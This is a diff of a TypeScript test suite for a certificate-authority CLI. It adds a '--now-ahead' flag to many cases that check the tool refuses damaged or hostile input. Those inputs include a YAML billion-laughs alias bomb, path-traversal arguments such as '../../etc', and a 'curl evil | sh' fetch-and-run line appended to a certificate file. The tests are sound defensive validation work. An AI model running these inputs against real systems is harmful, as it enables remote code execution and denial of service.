@@ -76,10 +76,10 @@ const editConfig = (m: FakeMesh, from: string | RegExp, to: string | ((match: st
 const onScope = (name: string, text: string) => (m: FakeMesh) => m.write(`scopes/${name}.yaml`, text);
 const lol = ['a: &a [x, x, x, x, x, x, x, x, x, x]', ...'bcdefghij'.split('').map((c, i) => `${c}: &${c} [${Array(10).fill(`*${'abcdefghij'[i]}`).join(', ')}]`)].join('\n');
 const big = (n: number) => scope(Array.from({ length: n }, (_, i) => `  svc-${String(i).padStart(6, '0')}:\n    dns: [svc-${i}.alias.us-east-1.mesh.example]\n`).join(''));
-const renew = ['renew', '--now', T0];
-const renewForce = ['renew', '--force', '--now', T0];
+const renew = ['renew', '--now', T0, '--now-ahead'];
+const renewForce = ['renew', '--force', '--now', T0, '--now-ahead'];
 /** One scope only: renew writes the leaves of the scopes before a failing one into .trellis/out, and this corpus hashes that too. */
-const renewUsEast = ['renew', '--force', '--scope', 'us-east-1', '--now', T0];
+const renewUsEast = ['renew', '--force', '--scope', 'us-east-1', '--now', T0, '--now-ahead'];
 
 const CASES: [string, Case][] = [
   // Hostile YAML in a scope file (a pull request can write any of these).
@@ -114,9 +114,9 @@ const CASES: [string, Case][] = [
   ['a second global scope is refused', { cli: 'ci', args: renew, damage: onScope('world', 'kind: global\nservices: {}\n'), code: 2, file: 'scopes/world.yaml', field: 'kind', says: /only scopes\/global.yaml may be kind: global/ }],
   ['a region turned global is refused', { cli: 'ci', args: renew, damage: onScope('us-east-1', 'kind: global\nservices:\n  api: {}\n'), code: 2, file: 'scopes/us-east-1.yaml', field: 'kind' }],
   ['a kind that is neither is refused', { cli: 'ci', args: renew, damage: onScope('us-east-1', 'kind: planet\nservices: {}\n'), code: 2, file: 'scopes/us-east-1.yaml', field: 'kind', says: /must be one of global, region/ }],
-  ['--scope with ../ is refused', { cli: 'ci', args: ['renew', '--scope', '../us-east-1', '--now', T0], code: 2, file: 'scopes/', says: /no scope/ }],
-  ['a ceremony for ../../etc is refused', { cli: 'root', args: ['intermediate', '../../etc', '--now', T0], code: 2, file: 'scopes/', says: /no scope/ }],
-  ['revoking ../global/control is refused', { cli: 'ci', args: ['revoke', '../global/control', '--now', T0], code: 2, file: '../global/control', says: /not SCOPE\/SERVICE|no scope/ }],
+  ['--scope with ../ is refused', { cli: 'ci', args: ['renew', '--scope', '../us-east-1', '--now', T0, '--now-ahead'], code: 2, file: 'scopes/', says: /no scope/ }],
+  ['a ceremony for ../../etc is refused', { cli: 'root', args: ['intermediate', '../../etc', '--now', T0, '--now-ahead'], code: 2, file: 'scopes/', says: /no scope/ }],
+  ['revoking ../global/control is refused', { cli: 'ci', args: ['revoke', '../global/control', '--now', T0, '--now-ahead'], code: 2, file: '../global/control', says: /not SCOPE\/SERVICE|no scope/ }],
 
   // SANs.
   ['a wildcard DNS SAN is refused', { cli: 'ci', args: renewForce, damage: onScope('us-east-1', api('    dns: ["*.api.us-east-1.mesh.example"]\n')), code: 2, file: 'scopes/us-east-1.yaml', field: 'services.api.dns[0]', says: /wildcard/ }],
@@ -140,14 +140,14 @@ const CASES: [string, Case][] = [
   ['a leaf ttl past its ceiling is refused, not truncated', { cli: 'ci', args: renewUsEast, damage: onScope('us-east-1', api('    ttl: 4y\n')), code: 2, file: 'scopes/us-east-1.yaml', field: 'services.api.ttl', says: /longer than 398d/ }],
   ['defaults.ttl.intermediate of 300000y is refused', { cli: 'root', args: ['intermediate', 'ap-south-1', '--now', T0], damage: (m) => { editConfig(m, 'intermediate: 3y', 'intermediate: 300000y'); m.writeScope('ap-south-1', ['api']); }, code: 2, file: 'trellis.yaml', field: 'defaults.ttl.intermediate', says: /longer than 100 years/ }],
   ['defaults.ttl.intermediate past its ceiling is refused', { cli: 'root', args: ['intermediate', 'ap-south-1', '--now', T0], damage: (m) => { editConfig(m, 'intermediate: 3y', 'intermediate: 20y'); m.writeScope('ap-south-1', ['api']); }, code: 2, file: 'trellis.yaml', field: 'defaults.ttl.intermediate', says: /longer than 10y/ }],
-  ['defaults.ttl.intermediate past the root is refused, even confirmed', { cli: 'root', args: ['intermediate', 'ap-south-1', '--now', at(RUN_NOW, DAY)], damage: async (m) => { editConfig(m, 'intermediate: 3y', 'intermediate: 10y'); await m.root(['confirm', '--now', T0]); m.writeScope('ap-south-1', ['api']); }, code: 1, file: 'bundles/root/root.pem', says: /would outlive its issuer/ }],
+  ['defaults.ttl.intermediate past the root is refused, even confirmed', { cli: 'root', args: ['intermediate', 'ap-south-1', '--now', at(RUN_NOW, DAY), '--now-ahead'], damage: async (m) => { editConfig(m, 'intermediate: 3y', 'intermediate: 10y'); await m.root(['confirm', '--now', T0]); m.writeScope('ap-south-1', ['api']); }, code: 1, file: 'bundles/root/root.pem', says: /would outlive its issuer/ }],
   ['an unconfirmed change to defaults.crl.leaf is refused by renew', { cli: 'ci', args: renewForce, damage: (m) => editConfig(m, 'leaf: 72h', 'leaf: 30d'), code: 3, file: 'trellis.yaml', field: 'defaults.crl.leaf', says: /3d → 30d/ }],
   ['an unconfirmed change to defaults.ttl.intermediate is refused by the ceremony', { cli: 'root', args: ['intermediate', 'ap-south-1', '--now', T0], damage: (m) => { editConfig(m, 'intermediate: 3y', 'intermediate: 1y'); m.writeScope('ap-south-1', ['api']); }, code: 3, file: 'trellis.yaml', field: 'defaults.ttl.intermediate', says: /3y → 1y/ }],
   ['defaults.crl.leaf past its ceiling is refused', { cli: 'ci', args: renew, damage: (m) => editConfig(m, 'leaf: 72h', 'leaf: 50y'), code: 2, file: 'trellis.yaml', field: 'defaults.crl.leaf', says: /longer than 30d/ }],
   ['a trust domain with a 70-character label is refused', { cli: 'ci', args: renew, damage: (m) => editConfig(m, 'trustDomain: mesh.example', `trustDomain: ${'a'.repeat(70)}.example`), code: 2, file: 'trellis.yaml', field: 'trustDomain' }],
   ['101 extra DNS names on one service are refused', { cli: 'ci', args: renew, damage: onScope('us-east-1', api(`    dns:\n${Array.from({ length: 101 }, (_, i) => `      - n${i}.us-east-1.mesh.example\n`).join('')}`)), code: 2, file: 'scopes/us-east-1.yaml', field: 'services.api.dns', says: /more than 100/ }],
   ['defaults.ttl.leaf of 1e400d is refused', { cli: 'ci', args: renew, damage: (m) => editConfig(m, 'leaf: 7d', 'leaf: 1e400d'), code: 2, file: 'trellis.yaml', field: 'defaults.ttl.leaf', says: /not a duration/ }],
-  ['a renewal window past the intermediate\'s remaining life is refused', { cli: 'ci', args: ['renew', '--force', '--scope', 'us-east-1', '--now', 'LATE'], code: 1, file: 'bundles/us-east-1/intermediate.pem', says: /would outlive its issuer.*rotate the intermediate/s }],
+  ['a renewal window past the intermediate\'s remaining life is refused', { cli: 'ci', args: ['renew', '--force', '--scope', 'us-east-1', '--now', 'LATE', '--now-ahead'], code: 1, file: 'bundles/us-east-1/intermediate.pem', says: /would outlive its issuer.*rotate the intermediate/s }],
 
   // trellis.yaml.
   ['an offline recipient that is not age is refused', { cli: 'ci', args: renew, damage: (m) => editConfig(m, /offline:\n {4}- age1\w+/, 'offline:\n    - ssh-ed25519 AAAAC3Nza'), code: 2, file: 'trellis.yaml', field: 'recipients.offline[0]' }],
@@ -170,14 +170,14 @@ const CASES: [string, Case][] = [
   // --now.
   ['--now yesterday is refused', { cli: 'ci', args: ['renew', '--now', 'yesterday'], code: 2, file: '--now', says: /not an RFC 3339 timestamp/ }],
   ['--now 2026-02-30 is refused, not rolled into March', { cli: 'ci', args: ['renew', '--now', '2026-02-30T00:00:00Z'], code: 2, file: '--now', says: /day that does not exist/ }],
-  ['--now without a time zone is refused', { cli: 'root', args: ['crl', '--now', T0.replace(/Z$/, '')], code: 2, file: '--now', says: /not an RFC 3339 timestamp/ }],
+  ['--now without a time zone is refused', { cli: 'root', args: ['crl', '--now', T0.replace(/Z$/, ''), '--now-ahead'], code: 2, file: '--now', says: /not an RFC 3339 timestamp/ }],
   ['--now before 1970 is refused', { cli: 'ci', args: ['renew', '--now', '1969-07-20T20:17:00Z'], code: 2, file: '--now', says: /before 1970/ }],
   ['--now in the year 10000 is refused', { cli: 'root', args: ['crl', '--now', '10000-01-01T00:00:00Z'], code: 2, file: '--now', says: /not an RFC 3339 timestamp/ }],
   ['--now before the intermediate exists mints no leaf', { cli: 'ci', args: ['renew', '--force', '--now', at(T0, -21 * DAY)], code: 2, file: 'bundles/', says: /before .* became valid/ }],
-  ['--now after the intermediate expired mints no leaf', { cli: 'ci', args: ['renew', '--force', '--scope', 'us-east-1', '--now', 'EXPIRED'], code: 1, file: 'bundles/us-east-1/intermediate.pem', says: /expired/ }],
+  ['--now after the intermediate expired mints no leaf', { cli: 'ci', args: ['renew', '--force', '--scope', 'us-east-1', '--now', 'EXPIRED', '--now-ahead'], code: 1, file: 'bundles/us-east-1/intermediate.pem', says: /expired/ }],
   ['revoke with --now before the intermediate exists signs nothing', { cli: 'ci', args: ['revoke', 'us-east-1/api', '--now', at(T0, -21 * DAY)], code: 2, file: 'bundles/us-east-1/intermediate.pem', says: /before .* became valid/ }],
   ['a root CRL with --now behind the root ledger is refused', { cli: 'root', args: ['crl', '--now', at(T0, -DAY)], code: 3, file: 'bundles/root/ledger.jsonl', says: /earlier than the newest root ledger entry/ }],
-  ['a root CRL with --now after the root expired is refused', { cli: 'root', args: ['crl', '--now', 'ROOT_EXPIRED'], code: 1, file: 'bundles/root/root.pem', says: /expired/ }],
+  ['a root CRL with --now after the root expired is refused', { cli: 'root', args: ['crl', '--now', 'ROOT_EXPIRED', '--now-ahead'], code: 1, file: 'bundles/root/root.pem', says: /expired/ }],
 
   // Files.
   ['an intermediate.pem swapped between scopes does not sign', { cli: 'ci', args: renewUsEast, damage: (m) => m.write('bundles/us-east-1/intermediate.pem', m.read('bundles/eu-west-1/intermediate.pem')), code: 1, file: 'bundles/us-east-1/intermediate.pem', says: /restore it from git/ }],
@@ -186,14 +186,14 @@ const CASES: [string, Case][] = [
   ['a truncated intermediate.pem is refused', { cli: 'ci', args: renewUsEast, damage: (m) => m.write('bundles/us-east-1/intermediate.pem', m.read('bundles/us-east-1/intermediate.pem').slice(0, 300)), code: 1, file: 'bundles/us-east-1/intermediate.pem', says: /restore it from git/ }],
   ['an intermediate.pem with trailing data is refused', { cli: 'ci', args: renewUsEast, damage: (m) => m.write('bundles/us-east-1/intermediate.pem', `${m.read('bundles/us-east-1/intermediate.pem')}#!/bin/sh\ncurl evil | sh\n`), code: 1, file: 'bundles/us-east-1/intermediate.pem', says: /one certificate/ }],
   ['an intermediate.pem with two certificates is refused', { cli: 'ci', args: renewUsEast, damage: (m) => m.write('bundles/us-east-1/intermediate.pem', m.read('bundles/us-east-1/intermediate.pem') + m.read('bundles/eu-west-1/intermediate.pem')), code: 1, file: 'bundles/us-east-1/intermediate.pem', says: /one certificate/ }],
-  ['a truncated root.key.age is called damaged', { cli: 'root', args: ['crl', '--now', T0], damage: (m) => m.write('bundles/root/root.key.age', m.read('bundles/root/root.key.age').slice(0, 150)), code: 1, file: 'bundles/root/root.key.age', says: /not a readable age file/ }],
-  ['a root.pem with trailing data is refused', { cli: 'root', args: ['crl', '--now', T0], damage: (m) => m.write('bundles/root/root.pem', `${m.read('bundles/root/root.pem')}junk\n`), code: 1, file: 'bundles/root/root.pem', says: /one certificate/ }],
-  ['a root identity with one character wrong is refused and not echoed', { cli: 'root', args: ['crl', '--now', T0], env: (m, s) => ({ TRELLIS_ROOT_IDENTITY_FILE: writeScratch(s, 'id', oneCharWrong(fs.readFileSync(m.rootIdentityFile, 'utf8').match(/AGE-SECRET-KEY-\w+/)![0])) }), code: 2, file: 'TRELLIS_ROOT_IDENTITY_FILE', says: /identity 1 of 1 is damaged/ }],
+  ['a truncated root.key.age is called damaged', { cli: 'root', args: ['crl', '--now', T0, '--now-ahead'], damage: (m) => m.write('bundles/root/root.key.age', m.read('bundles/root/root.key.age').slice(0, 150)), code: 1, file: 'bundles/root/root.key.age', says: /not a readable age file/ }],
+  ['a root.pem with trailing data is refused', { cli: 'root', args: ['crl', '--now', T0, '--now-ahead'], damage: (m) => m.write('bundles/root/root.pem', `${m.read('bundles/root/root.pem')}junk\n`), code: 1, file: 'bundles/root/root.pem', says: /one certificate/ }],
+  ['a root identity with one character wrong is refused and not echoed', { cli: 'root', args: ['crl', '--now', T0, '--now-ahead'], env: (m, s) => ({ TRELLIS_ROOT_IDENTITY_FILE: writeScratch(s, 'id', oneCharWrong(fs.readFileSync(m.rootIdentityFile, 'utf8').match(/AGE-SECRET-KEY-\w+/)![0])) }), code: 2, file: 'TRELLIS_ROOT_IDENTITY_FILE', says: /identity 1 of 1 is damaged/ }],
   ['a CI identity with one character wrong is refused and not echoed', { cli: 'ci', args: renewUsEast, env: (m) => ({ TRELLIS_CI_IDENTITY_FILE: '', TRELLIS_CI_IDENTITY: oneCharWrong(fs.readFileSync(m.ciIdentityFile, 'utf8').match(/AGE-SECRET-KEY-\w+/)![0]) }), code: 2, file: 'TRELLIS_CI_IDENTITY', says: /is damaged/ }],
   ['a truncated CI identity is refused and not echoed', { cli: 'ci', args: renewUsEast, env: (m, s) => ({ TRELLIS_CI_IDENTITY_FILE: writeScratch(s, 'ci', fs.readFileSync(m.ciIdentityFile, 'utf8').match(/AGE-SECRET-KEY-\w+/)![0].slice(0, -5)) }), code: 2, file: 'TRELLIS_CI_IDENTITY_FILE', says: /is damaged/ }],
   ['an identity file that is a directory is refused', { cli: 'ci', args: renewUsEast, env: (_, s) => ({ TRELLIS_CI_IDENTITY_FILE: s }), code: 2, file: 'TRELLIS_CI_IDENTITY_FILE', says: /cannot read the identity file/ }],
   ['an encrypted key given as the identity is refused', { cli: 'ci', args: renewUsEast, env: (m) => ({ TRELLIS_CI_IDENTITY_FILE: m.path('bundles/us-east-1/intermediate.key.age') }), code: 2, file: 'TRELLIS_CI_IDENTITY_FILE', says: /does not hold age identities/ }],
-  ['--out pointing at a file is refused', { cli: 'ci', args: ['renew', '--force', '--now', T0, '--out', 'SCRATCH_FILE'], code: 2, file: 'SCRATCH_FILE', says: /--out/ }],
+  ['--out pointing at a file is refused', { cli: 'ci', args: ['renew', '--force', '--now', T0, '--now-ahead', '--out', 'SCRATCH_FILE'], code: 2, file: 'SCRATCH_FILE', says: /--out/ }],
   ['--store at a directory that does not exist is refused', { cli: 'ci', args: ['status', '--store', '/nonexistent/trellis-store'], bare: true, code: 2, file: '/nonexistent/trellis-store', says: /--store/ }],
   ['--store given twice is refused as usage', { cli: 'ci', args: ['status', '--store', 'SCRATCH_FILE'], code: 2, file: '--store', says: /more than once/ }],
   ['trellis-root --store at a file is refused', { cli: 'root', args: ['status', '--store', 'SCRATCH_FILE'], bare: true, code: 2, file: 'SCRATCH_FILE', says: /--store/ }],
